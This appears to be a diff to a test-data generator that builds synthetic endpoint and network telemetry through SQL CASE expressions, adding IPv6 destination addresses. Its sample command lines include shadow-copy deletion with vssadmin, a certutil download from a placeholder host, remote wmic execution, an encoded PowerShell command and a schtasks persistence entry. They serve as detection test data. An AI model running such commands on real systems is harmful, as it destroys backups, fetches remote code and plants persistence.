@@ -25,7 +25,7 @@ COLUMNS = {
     "process_path": "CASE u WHEN 1 THEN concat('C:', bs, 'Users', bs, 'v', bs, 'AppData', bs, 'weirdencryptor.exe') WHEN 4 THEN concat('C:', bs, 'Program Files', bs, 'backup.exe') ELSE concat('C:', bs, 'Windows', bs, 'x.exe') END",
     "integrity_level": "CASE WHEN u IN (1, 4) THEN 'High' ELSE 'Medium' END",
     "direction": "CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 3 = 0 THEN 'inbound' ELSE 'outbound' END END",
-    "dest_ip": "CASE WHEN event_type = 'purchase' THEN CASE k % 4 WHEN 0 THEN concat('45.76.23.', CAST(k AS {string})) WHEN 1 THEN concat('10.0.0.', CAST(k AS {string})) WHEN 2 THEN concat('100.64.0.', CAST(k AS {string})) ELSE 'not-an-ip' END END",
+    "dest_ip": "CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 16 = 5 THEN concat('fd00::', CAST(k AS {string})) WHEN k % 16 = 8 THEN concat('2A00:1450:4001:0::', CAST(k AS {string})) WHEN k % 16 = 15 THEN concat('::ffff:10.0.0.', CAST(k % 200 AS {string})) ELSE CASE k % 4 WHEN 0 THEN concat('45.76.23.', CAST(k AS {string})) WHEN 1 THEN concat('10.0.0.', CAST(k AS {string})) WHEN 2 THEN concat('100.64.0.', CAST(k AS {string})) ELSE 'not-an-ip' END END END",
     "dest_port": "CASE WHEN event_type = 'purchase' THEN CASE k % 6 WHEN 0 THEN 443 WHEN 1 THEN 4444 WHEN 2 THEN 8080 WHEN 3 THEN 11434 WHEN 4 THEN 1234 ELSE 8000 END END",
     "protocol": "CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'tcp' ELSE 'udp' END END",
     "command_line": "CASE WHEN event_type = 'error' THEN CASE k % 10 WHEN 0 THEN 'vssadmin delete shadows /all /quiet' WHEN 1 THEN 'wmic /node:10.0.0.5 process call create calc' WHEN 2 THEN 'certutil -urlcache -f http://x/y z' WHEN 3 THEN 'whoami /all' WHEN 4 THEN 'net user admin' WHEN 5 THEN 'powershell -enc SGVsbG9Xb3JsZEhlbGxvV29ybGQ=' WHEN 6 THEN 'schtasks /Create /sc onlogon /tr powershell' ELSE 'notepad a.txt' END END",
